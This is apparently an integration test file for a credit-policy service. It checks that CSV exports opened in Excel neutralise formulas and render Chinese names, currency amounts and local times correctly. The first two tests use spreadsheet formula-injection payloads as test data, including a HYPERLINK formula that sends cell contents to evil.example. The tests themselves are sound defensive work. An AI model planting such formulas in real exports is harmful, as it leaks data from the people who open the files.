"""CSV exports a finance team opens in Excel never carry a live formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

from flask import Flask

from policy_service.container import Services
from tests.integration.test_admin_support import login, make_users

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_aging_report_csv_writes_a_formula_like_name_as_text(api: Any) -> None:
    api.customer("C-1", name=FORMULA)
    invoice = {"invoice_id": "I-1", "customer_id": "C-1", "amount": "250.00",
               "currency": "CNY", "issue_date": "2026-01-01", "due_date": "2026-02-01"}
    assert api.call("POST", "/v1/invoices", "order_system", json=invoice).status_code == 201
    response = api.client.get("/v1/reports/aging?as_of=2026-04-15",
                              headers={**api.keys["risk_manager"], "Accept": "text/csv"})
    header, row = _excel(response.get_data())
    assert row[header.index("name")] == "'" + FORMULA
    assert row[header.index("customer_id")] == "C-1"
    assert "250.00" in row


def test_the_decisions_export_writes_a_formula_like_order_id_as_text(
        app: Flask, services: Services, api: Any) -> None:
    api.customer("C-1", credit_limit="1000.00")
    assert api.check("@SUM(1+1)*cmd", "100.00").status_code in (200, 201)
    users = make_users(services)
    exported = login(app, users["auditor"]).get("/admin/decisions/export/csv/")
    header, row = _excel(exported.get_data())
    assert row[header.index("Order")] == "'@SUM(1+1)*cmd"
    assert row[header.index("Amount")] == "100.00"


def _excel(raw: bytes) -> list[list[str]]:
    """The CSV as Excel reads it: a UTF-8 BOM says the encoding, then the rows."""
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:20]
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_decisions_export_opens_in_excel_with_names_reasons_money_and_local_minutes(
        app: Flask, services: Services, api: Any) -> None:
    api.customer("C-SH", name="上海华东贸易", credit_limit="10000.00")
    api.customer("C-JP", name="東京精密", credit_limit="1000000", currency="JPY")
    held = api.check("SO-SH", "13000.00", "C-SH").get_json()
    assert held["outcome"] == "hold"
    assert api.check("SO-JP", "1400000", "C-JP", currency="JPY").get_json()["outcome"] == "hold"
    app.config["POLICY_TIMEZONE"] = "Asia/Shanghai"
    client = login(app, make_users(services)["auditor"])
    header, *rows = _excel(client.get("/admin/decisions/export/csv/").get_data())
    by_order = {row[header.index("Order")]: dict(zip(header, row, strict=True)) for row in rows}
    sh, jp = by_order["SO-SH"], by_order["SO-JP"]
    assert (sh["Customer"], sh["Customer name"]) == ("C-SH", "上海华东贸易")
    assert (sh["Amount"], sh["Currency"]) == ("13000.00", "CNY")
    assert (jp["Amount"], jp["Currency"]) == ("1400000", "JPY")  # yen have no decimals
    assert sh["Reason codes"].split() == [r["code"] for r in held["reasons"]]
    assert sh["Reasons"] == "; ".join(r["message"]["en"] for r in held["reasons"])
    decided = datetime.fromisoformat(held["decided_at"].replace("Z", "+00:00"))
    assert sh["Decided at"] == decided.astimezone(ZoneInfo("Asia/Shanghai")).strftime(
        "%Y-%m-%d %H:%M")


def test_a_chinese_user_exports_chinese_headers_and_reasons(
        app: Flask, services: Services, api: Any) -> None:
    api.customer("C-SH", name="上海华东贸易", credit_limit="10000.00")
    held = api.check("SO-SH", "13000.00", "C-SH").get_json()
    client = login(app, make_users(services)["auditor"])
    page = client.get("/admin/").get_data(as_text=True)
    from tests.integration.test_admin_support import csrf_token
    client.post("/admin/auth/locale/zh", data={"csrf_token": csrf_token(page), "next": "/"})
    header, row = _excel(client.get("/admin/decisions/export/csv/").get_data())
    shown = dict(zip(header, row, strict=True))
    assert shown["客户名称"] == "上海华东贸易"
    assert shown["原因"] == "; ".join(r["message"]["zh"] for r in held["reasons"])


def test_the_change_history_export_names_the_customer_beside_its_id(
        app: Flask, services: Services, api: Any) -> None:
    from policy_service.services.credit.edits import CustomerEdit, edit_customer

    api.customer("C-SH", name="上海华东贸易", credit_limit="10000.00")
    edit = CustomerEdit(tier="B", credit_limit=Decimal("20000.00"),
                        collateral_amount=Decimal("0"), payment_term_days=30, status="active",
                        status_reason="", next_review_date=date(2027, 6, 30), owner=None)
    edit_customer(services.uow(), "C-SH", edit, "risk")
    client = login(app, make_users(services)["auditor"])
    header, *rows = _excel(client.get("/admin/changes/export/csv/").get_data())
    limit = next(dict(zip(header, r, strict=True)) for r in rows if "credit_limit" in r)
    assert (limit["Entity id"], limit["Customer name"]) == ("C-SH", "上海华东贸易")
